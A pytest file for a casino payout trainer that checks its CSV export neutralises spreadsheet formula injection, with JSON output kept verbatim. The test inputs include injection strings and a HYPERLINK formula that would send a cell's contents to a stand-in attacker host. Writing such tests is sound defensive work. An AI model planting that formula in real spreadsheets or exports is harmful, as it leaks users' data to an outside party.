"""The CSV export never hands a spreadsheet a formula: a text cell that starts with =, +, -, @
(or a tab, a carriage return) is written with a ' before it; a number stays a number."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from trainer.commands.export import write_export
from trainer.history.store import Store


class _Clock:
    now = 1_700_000_000.0

    def __call__(self) -> float:
        return self.now


QUESTION = {"bet": "15", "result": "win", "box": 1, "cards": ["JD", "QH"], "dealer": ["6S"]}


def _exported(tmp_path: Path, profile: str, answers: list[str], fmt: str = "csv") -> str:
    with Store.open(tmp_path / "h.sqlite3", clock=_Clock()) as store:
        session = store.start_session(profile, "practice", ["pay-even"], "casino-fr")
        for answer in answers:
            store.record(session, "pay-even", "pay-even:15", QUESTION, answer, "15", False, 900)
        out = io.StringIO()
        write_export(store.export_rows(None), out, fmt)
    return out.getvalue()


@pytest.mark.parametrize(
    "answer, cell",
    [
        ("=1+2", "'=1+2"),
        ("+A1", "'+A1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
        ("\t=1", "'\t=1"),
        ("-5", "-5"),  # numbers as typed stay numbers
        ("+10", "+10"),
        ("-2.50", "-2.50"),
        ("-2,50", "-2,50"),
        ("15", "15"),
        ("'=x", "'=x"),
    ],
)
def test_a_text_answer_is_never_a_formula(tmp_path: Path, answer: str, cell: str) -> None:
    (row,) = list(csv.DictReader(io.StringIO(_exported(tmp_path, "ana", [answer]))))
    assert row["answer"] == cell


def test_a_profile_named_as_a_formula_is_text(tmp_path: Path) -> None:
    name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    text = _exported(tmp_path, name, ["15"])
    (row,) = list(csv.DictReader(io.StringIO(text)))
    assert row["profile"] == "'" + name
    assert row["answer"] == "15" and row["expected"] == "15"
    # every field of every line starts with none of the formula characters
    for line in csv.reader(io.StringIO(text)):
        for field in line:
            assert field[:1] not in ("=", "+", "@", "\t", "\r") or field.lstrip("+-").isdigit()


def test_the_json_export_keeps_the_text_as_it_is(tmp_path: Path) -> None:
    (row,) = json.loads(_exported(tmp_path, "=ana", ["=1+2"], "json"))
    assert (row["profile"], row["answer"]) == ("=ana", "=1+2")
